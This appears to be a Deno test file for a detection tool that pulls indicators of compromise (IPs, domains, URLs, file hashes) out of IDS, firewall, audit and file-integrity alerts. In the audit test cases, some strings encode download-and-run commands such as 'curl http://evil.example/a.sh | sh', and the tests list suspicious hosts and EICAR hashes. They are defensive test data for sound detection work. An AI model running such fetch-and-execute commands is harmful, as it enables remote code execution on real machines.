@@ -1,0 +1,466 @@
+import { assert, assertEquals } from "@std/assert";
+import { parseAlert } from "../../lib/alert.ts";
+import { argumentsIn, urlsIn } from "../../lib/sources/audit.ts";
+import { type Findings, findIocs } from "../../lib/sources/mod.ts";
+
+const ALERTS = new URL("../testdata/alerts/", import.meta.url);
+
+function findInFile(name: string): Findings {
+  const json = Deno.readTextFileSync(new URL(`${name}.json`, ALERTS));
+  return findIocs(parseAlert(json));
+}
+
+function find(alert: unknown): Findings {
+  return findIocs(parseAlert(JSON.stringify(alert)));
+}
+
+function valuesOf({ iocs }: Findings): string[] {
+  return iocs.map(({ kind, value }) => `${kind} ${value}`);
+}
+
+const EICAR = [
+  "sha256 275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f",
+  "sha1 3395856ce81f2b7382dee72602f798b642f14140",
+  "md5 44d88612fea8a8f36de82e1278abb02f",
+];
+
+// Written by reading the alerts, not by running the program.
+const EXPECTED: Readonly<Record<string, readonly [string, ...string[]]>> = {
+  audit_command_curl_url: [
+    "audit",
+    "url http://morrishittu.ddns.net/a.sh",
+    "domain morrishittu.ddns.net",
+  ],
+  audit_command_noargs: ["audit"],
+  audit_command_ping_domain: ["audit"],
+  fortigate_L116: ["fortigate"],
+  fortigate_L134: [
+    "fortigate",
+    "ipv4 111.221.29.254",
+    "domain vortex-win.data.microsoft.com",
+  ],
+  fortigate_L158: [
+    "fortigate",
+    "ipv4 164.100.80.203",
+    "sha256 a9165dbae34e6e2952270536e95a2bb154dff0cfcdf41315f0796ee14b36123b",
+    "url http://www.karsec.gov.in/FrontPageImgHandler.ashx?id=12",
+  ],
+  fortigate_L18: ["fortigate"],
+  fortigate_L188: [
+    "fortigate",
+    "ipv4 1.2.3.11",
+    "ipv4 1.5.5.92",
+    "domain 4-edge-chat.facebook.com",
+    "url https://4-edge-chat.facebook.com/p?partition=-2&cb=lz1k&failure=5&sticky_token=274&sticky_pool=atn2c06_chat-proxy",
+  ],
+  fortigate_L195: [
+    "fortigate",
+    "ipv4 185.244.31.158",
+    "domain morrishittu.ddns.net",
+    "url http://morrishittu.ddns.net/",
+  ],
+  packetbeat_dns: [
+    "ids",
+    "ipv4 8.8.8.8",
+    "domain www.morrishittu.ddns.net",
+    "ipv4 185.244.31.158",
+  ],
+  snort_full: ["ids", "ipv4 185.244.31.158"],
+  snort_v6: ["ids", "ipv6 2a00:1450:400f:80d::200e"],
+  sonicwall_L26: ["sonicwall", "ipv4 37.186.204.2"],
+  sonicwall_L34: ["sonicwall", "ipv4 151.101.242.49", "domain example.com"],
+  sonicwall_L34_agentfile: [
+    "sonicwall",
+    "ipv4 151.101.242.49",
+    "domain example.com",
+  ],
+  sshd_failed: ["no source"],
+  suricata_alert_dns_v2: ["ids", "ipv4 8.8.8.8", "domain morrishittu.ddns.net"],
+  suricata_alert_http: [
+    "ids",
+    "ipv4 185.244.31.158",
+    "domain morrishittu.ddns.net",
+    "url http://morrishittu.ddns.net/virus/eicar.com?a=1",
+  ],
+  suricata_alert_test: ["ids", "ipv4 218.92.0.222", "ipv4 16.10.10.11"],
+  suricata_alert_tls: [
+    "ids",
+    "ipv4 185.244.31.158",
+    "domain morrishittu.ddns.net",
+  ],
+  suricata_dns_malicious: ["ids", "ipv4 8.8.8.8", "domain qouv.fr"],
+  suricata_dns_v1_query: ["ids", "ipv4 8.8.8.8", "domain morrishittu.ddns.net"],
+  suricata_dns_v2_answer: [
+    "ids",
+    "ipv4 8.8.8.8",
+    "domain www.morrishittu.ddns.net",
+    "domain morrishittu.ddns.net",
+    "ipv4 185.244.31.158",
+  ],
+  syscheck_added_linux: ["syscheck", ...EICAR],
+  syscheck_added_nohash: ["syscheck"],
+  syscheck_deleted_linux: ["no source"],
+  syscheck_malware_hash_99901: [
+    "syscheck",
+    "sha256 2fe6a7ae63c878bd84d7b829349b309e7c84194ddbb6a779816f5b84cd8ad45d",
+    ...EICAR.slice(1),
+  ],
+  syscheck_modified_linux: ["syscheck", ...EICAR],
+  syscheck_registry_value_added: ["syscheck", ...EICAR],
+  zeek_owlh_dns: [
+    "ids",
+    "domain archive.ubuntu.com",
+    ...["173", "174", "24", "162", "149", "31"].map((n) =>
+      `ipv4 91.189.88.${n}`
+    ),
+  ],
+  zeek_owlh_files: ["ids", "ipv4 185.244.31.158", ...EICAR.slice(1)],
+  zeek_owlh_ssl_sni: [
+    "ids",
+    "ipv4 185.244.31.158",
+    "domain morrishittu.ddns.net",
+  ],
+};
+
+Deno.test("findIocs() finds what a real alert holds", async (t) => {
+  const files = await Array.fromAsync(Deno.readDir(ALERTS));
+  const names = files.map(({ name }) => name).sort();
+  assertEquals(
+    names,
+    Object.keys(EXPECTED).sort().map((name) => `${name}.json`),
+  );
+  for (const [name, [source, ...values]] of Object.entries(EXPECTED)) {
+    await t.step(name, () => {
+      const findings = findInFile(name);
+      assertEquals(valuesOf(findings), values);
+      assertEquals(findings.sources.join() || "no source", source);
+    });
+  }
+});
+
+Deno.test("findIocs() finds an IoC once, whichever field and source has it", () => {
+  const findings = find({
+    rule: { groups: ["ids", "fortigate"] },
+    data: {
+      srcip: "1.2.3.4",
+      src_ip: "::ffff:1.2.3.4",
+      dstip: "1.2.3.4",
+      hostname: "1.2.3.4",
+    },
+  });
+  assertEquals(findings.sources, ["ids", "fortigate"]);
+  assertEquals(valuesOf(findings), ["ipv4 1.2.3.4"]);
+});
+
+Deno.test("findIocs() says what it leaves out of an alert with too many IoCs", () => {
+  const answers = Array.from(
+    { length: 250 },
+    (_, n) => ({ rdata: `9.9.9.${n}` }),
+  );
+  const { iocs, passedOver } = find({
+    rule: { groups: ["ids"] },
+    data: { dns: { answers } },
+  });
+  assertEquals(iocs.length, 200);
+  assertEquals(passedOver.length, 50);
+  assertEquals(passedOver[0]?.reason, "more than 200 IoCs in one alert");
+});
+
+Deno.test("syscheck reads by group or by event", async (t) => {
+  const hashes = { sha256_after: EICAR[0]?.slice(7) };
+  const cases: readonly [
+    string,
+    readonly string[],
+    string | undefined,
+    boolean,
+  ][] = [
+    [
+      "added, by group",
+      ["syscheck_file", "syscheck_entry_added"],
+      undefined,
+      true,
+    ],
+    [
+      "modified, by group",
+      ["syscheck_file", "syscheck_entry_modified"],
+      undefined,
+      true,
+    ],
+    ["deleted", ["syscheck_file", "syscheck_entry_deleted"], "deleted", false],
+    ["added, by event", ["malware"], "added", true],
+    ["modified, by event", ["malware"], "modified", true],
+    ["neither", ["syscheck_entry_added"], undefined, false],
+  ];
+  for (const [name, groups, event, isRead] of cases) {
+    await t.step(name, () => {
+      const { sources } = find({
+        rule: { groups },
+        syscheck: { ...hashes, event },
+      });
+      assertEquals(sources, isRead ? ["syscheck"] : []);
+    });
+  }
+});
+
+Deno.test("ids reads Suricata's DNS in all its versions", async (t) => {
+  const query = { type: "query", rrname: "q.example", rrtype: "A" };
+  const answers = [
+    { rrname: "q.example", rrtype: "CNAME", rdata: "c.example" },
+    {
+      rrname: "c.example",
+      rrtype: "AAAA",
+      rdata: "2a00:1450:400f:080d:0000:0000:0000:200e",
+    },
+  ];
+  const answered = [
+    "domain q.example",
+    "domain c.example",
+    "ipv6 2a00:1450:400f:80d::200e",
+  ];
+  const cases: Readonly<Record<string, readonly [unknown, readonly string[]]>> =
+    {
+      "1, query": [query, ["domain q.example"]],
+      "1, answer": [{ ...query, type: "answer", rdata: "9.9.9.9" }, [
+        "domain q.example",
+        "ipv4 9.9.9.9",
+      ]],
+      "2, query in an alert": [{ query: [query] }, ["domain q.example"]],
+      "2, answers": [{ version: "2", rrname: "q.example", answers }, answered],
+      "2, grouped": [
+        {
+          version: "2",
+          rrname: "q.example",
+          grouped: { CNAME: ["c.example"], AAAA: ["2a00:1450:400f:80d::200e"] },
+        },
+        answered,
+      ],
+      "2, answer in an alert": [{
+        answer: { version: 2, rrname: "q.example", answers },
+      }, answered],
+      "3, queries": [{ version: "3", queries: [query], answers }, answered],
+    };
+  for (const [version, [dns, expected]] of Object.entries(cases)) {
+    await t.step(version, () => {
+      const findings = find({
+        rule: { groups: ["ids", "suricata"] },
+        data: { dns },
+      });
+      assertEquals(valuesOf(findings).sort(), [...expected].sort());
+    });
+  }
+});
+
+Deno.test("ids reads HTTP hosts, URLs and files", async (t) => {
+  const sha256 = EICAR[0]?.slice(7);
+  const cases: Readonly<Record<string, readonly [unknown, readonly string[]]>> =
+    {
+      "a URL on another port": [
+        { http: { hostname: "evil.example", http_port: "8080", url: "/a" } },
+        ["domain evil.example", "url http://evil.example:8080/a"],
+      ],
+      "an absolute URL": [
+        { http: { hostname: "evil.example", url: "http://evil.example/a" } },
+        ["domain evil.example", "url http://evil.example/a"],
+      ],
+      "a path without host": [{ http: { url: "/a" } }, []],
+      "an address as host": [
+        { http: { hostname: "9.9.9.9", url: "/a" } },
+        ["ipv4 9.9.9.9", "url http://9.9.9.9/a"],
+      ],
+      "files of an alert": [{ files: [{ sha256 }] }, EICAR.slice(0, 1)],
+      "a fileinfo record": [{ fileinfo: { sha256 } }, EICAR.slice(0, 1)],
+    };
+  for (const [name, [data, expected]] of Object.entries(cases)) {
+    await t.step(name, () => {
+      assertEquals(
+        valuesOf(find({ rule: { groups: ["ids"] }, data })),
+        expected,
+      );
+    });
+  }
+});
+
+Deno.test("audit finds URLs wherever they stand in the command line", async (t) => {
+  const evil = ["url http://evil.example/a.sh", "domain evil.example"];
+  const hex = (text: string) =>
+    [...new TextEncoder().encode(text)].map((byte) =>
+      byte.toString(16).padStart(2, "0")
+    ).join("").toUpperCase();
+  const execve = (args: string) =>
+    `type=SYSCALL msg=audit(1:2): a0=55f0 a1=687474703A2F2F6576696C2E6578616D706C652F62 type=EXECVE msg=audit(1:2): argc=9 ${args} type=CWD msg=audit(1:2): cwd="/root"`;
+  const cases: Readonly<Record<string, readonly [string, readonly string[]]>> =
+    {
+      "alone": ['a0="curl" a1="http://evil.example/a.sh"', evil],
+      "after an option": [
+        'a0="curl" a1="--url=http://evil.example/a.sh"',
+        evil,
+      ],
+      "in a shell's command": [
+        `a0="sh" a1="-c" a2=${hex("curl 'http://evil.example/a.sh' | sh")}`,
+        evil,
+      ],
+      "beyond a7": ['a0="x" a8="http://evil.example/a.sh"', evil],
+      "hex beyond a7": [`a11=${hex('"http://evil.example/a.sh"')}`, evil],
+      "in parts": [
+        `a1_len=30 a1[0]="http://evil.ex" a1[1]=${hex("ample/a.sh")}`,
+        evil,
+      ],
+      "before a semicolon": [
+        `a1=${hex("curl http://evil.example/a.sh;sh a.sh")}`,
+        [
+          "url http://evil.example/a.sh;sh",
+          "domain evil.example",
+          "url http://evil.example/a.sh",
+        ],
+      ],
+      "before &&": [
+        `a1=${hex("curl http://evil.example/a.sh&&sh a.sh")}`,
+        evil,
+      ],
+      "in an address": ['a1="http://9.9.9.9:8000/x"', [
+        "url http://9.9.9.9:8000/x",
+        "ipv4 9.9.9.9",
+      ]],
+      "none": ['a0="ls" a1="-l"', []],
+    };
+  for (const [name, [args, expected]] of Object.entries(cases)) {
+    await t.step(name, () => {
+      const alert = {
+        rule: { groups: ["audit_command"] },
+        full_log: execve(args),
+      };
+      assertEquals(valuesOf(find(alert)), expected);
+    });
+  }
+});
+
+Deno.test("audit asks for the host in whatever form it has, and says what it does not ask for", () => {
+  const { iocs, passedOver } = find({
+    rule: { groups: ["audit_command"] },
+    data: {
+      audit: {
+        execve: { a0: "curl", a1: "http://10.0.0.1/x", a2: 7, a3: null },
+      },
+    },
+  });
+  assertEquals(iocs, []);
+  assertEquals(passedOver.map(({ reason }) => reason), [
+    "not a global address",
+    "not a global address",
+  ]);
+});
+
+Deno.test("argumentsIn() reads EXECVE records alone", () => {
+  const log =
+    'type=EXECVE msg=audit(1:2): argc=2 a0="type=PATH" a1=6C73 type=EXECVE msg=audit(1:2): a2="x" type=PROCTITLE msg=audit(1:2): proctitle=6375726C a3="no"';
+  assertEquals(
+    argumentsIn(log),
+    new Map([["a0", "type=PATH"], ["a1", "ls"], ["a2", "x"]]),
+  );
+});
+
+Deno.test("urlsIn() leaves out what ends a sentence or a command", async (t) => {
+  const cases: readonly (readonly [string, string[]])[] = [
+    ["see http://a.example/x.", ["http://a.example/x"]],
+    ["(http://a.example/x)", ["http://a.example/x"]],
+    ["http://a.example/x_(y)", ["http://a.example/x_(y)"]],
+    ["http://a.example/x?a=1&b=2", ["http://a.example/x?a=1&b=2"]],
+    ["HTTPS://a.example/ ftp://b.example/", [
+      "HTTPS://a.example/",
+      "ftp://b.example/",
+    ]],
+    ["ssh://a.example/", []],
+  ];
+  for (const [text, urls] of cases) {
+    await t.step(
+      text,
+      () => assertEquals(urlsIn(text), urls),
+    );
+  }
+});
+
+Deno.test("urlsIn() and argumentsIn() take linear time", () => {
+  const long = 1_000_000;
+  const start = performance.now();
+  urlsIn(`http://a.example/${".".repeat(long)}x`);
+  urlsIn("http://".repeat(long / 10));
+  argumentsIn(`type=EXECVE msg=audit(1:2): a0=${"a".repeat(long)}x`);
+  argumentsIn('type=EXECVE msg=audit(1:2): a0="'.repeat(long / 30));
+  assert(performance.now() - start < 2000);
+});
+
+Deno.test("sonicwall leaves dropped packets alone, by the firewall's own words", async (t) => {
+  const alert = (full_log: string, action = "x") => ({
+    rule: { groups: ["syslog", "sonicwall"] },
+    data: { srcip: "9.9.9.9", action },
+    full_log,
+  });
+  const cases = [
+    ["dropped in msg", 'msg="TCP connection dropped" src=9.9.9.9', true],
+    ["fw_action", 'msg="Web access" fw_action="drop"', true],
+    [
+      "a host with that name",
+      'msg="Web site access denied" dstname=dropped.example',
+      false,
+    ],
+  ] as const;
+  for (const [name, log, isDropped] of cases) {
+    await t.step(name, () => {
+      const { iocs, passedOver } = find(alert(log));
+      assertEquals(iocs.length === 0, isDropped);
+      if (isDropped) {
+        assertEquals(passedOver[0]?.reason, "the packet was dropped");
+      }
+    });
+  }
+  await t.step("the action, without full_log", () => {
+    const { iocs } = find({
+      ...alert("", "UDP packet dropped"),
+      full_log: undefined,
+    });
+    assertEquals(iocs, []);
+  });
+});
+
+Deno.test("fortigate leaves administrative actions alone, whatever their case", async (t) => {
+  const cases = [
+    ["login", true],
+    ["Login", true],
+    ["LOGOUT", true],
+    ["config", true],
+    ["Configuration", true],
+    ["blocked", false],
+    ["ssl-login-fail", false],
+  ] as const;
+  for (const [action, isAdministrative] of cases) {
+    await t.step(action, () => {
+      const { iocs, passedOver } = find({
+        rule: { groups: ["fortigate"] },
+        data: { action, srcip: "9.9.9.9" },
+      });
+      assertEquals(iocs.length === 0, isAdministrative);
+      assertEquals(passedOver.length > 0, isAdministrative);
+    });
+  }
+});
+
+Deno.test("fortigate takes the scheme of a URL from the service", async (t) => {
+  const cases = [
+    [{ service: "HTTP", dstport: "80" }, "http"],
+    [{ service: "HTTPS" }, "https"],
+    [{ dstport: "443" }, "https"],
+    [{}, "http"],
+  ] as const;
+  for (const [data, scheme] of cases) {
+    await t.step(JSON.stringify(data), () => {
+      const findings = find({
+        rule: { groups: ["fortigate"] },
+        data: { ...data, hostname: "evil.example", url: "/x" },
+      });
+      assertEquals(valuesOf(findings), [
+        "domain evil.example",
+        `url ${scheme}://evil.example/x`,
+      ]);
+    });
+  }
+});
